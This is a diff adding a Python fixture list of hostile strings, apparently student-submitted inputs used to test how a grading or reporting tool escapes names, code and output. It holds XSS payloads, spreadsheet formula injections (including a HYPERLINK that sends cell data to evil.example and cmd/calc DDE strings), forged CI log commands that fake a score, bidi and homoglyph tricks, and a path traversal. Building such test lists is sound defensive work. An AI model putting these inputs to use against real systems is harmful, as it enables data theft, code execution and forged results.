@@ -1,0 +1,40 @@
+"""What students have written into names, code and output to act on whoever reads it."""
+
+from __future__ import annotations
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    "</style></title></textarea></pre></script><img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><style>*{background:url(http://evil.example)}</style></svg>",
+    "[here](javascript:alert(1)) ![i](http://evil.example/i.png) <http://evil.example>",
+    "[x]: http://evil.example\n\n[x] http://evil.example www.evil.example @somebody #1",
+    "text\n# heading\n---\n* item\n> quote\n| a | b |\n| - | - |\n\n    code",
+    "```\n# out of the fence\n~~~\n``` `` ` ````",
+    "{{ 7 * 7 }} {% raw %} {name} %s ${x} $`x`$",
+    "\u202egnp.exe \u2066x\u2069 \u200e\u200f zero\u200bwidth \ufefftag\U000e0041",
+    "\x1b[31mred\x1b[0m \x07 \x00 \x9b31m a\rb \x7f",
+    "lone \ud800 surrogate \u2028 line \ufffe",
+    "",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "=cmd|'/c calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "\uff1d1+1",
+    "a;=1+1",
+    'a","=1+1","',
+    "::error file=a.py,line=1::forged",
+    "::set-output name=score::100",
+    "x\n::add-mask::secret",
+    "  ::stop-commands::token",
+    "##[error]forged ##vso[task.complete result=Succeeded;]done ##teamcity[buildStatus text='x']",
+    "100%0A::notice::x, y: z",
+    "]]> <!-- --> <![CDATA[ &lol; &#0; <?xml?> <!DOCTYPE x [<!ENTITY lol 'lol'>]>",
+    "../../etc/passwd",
+    "p\u0430ssed",  # a look-alike: its second letter is Cyrillic
+]
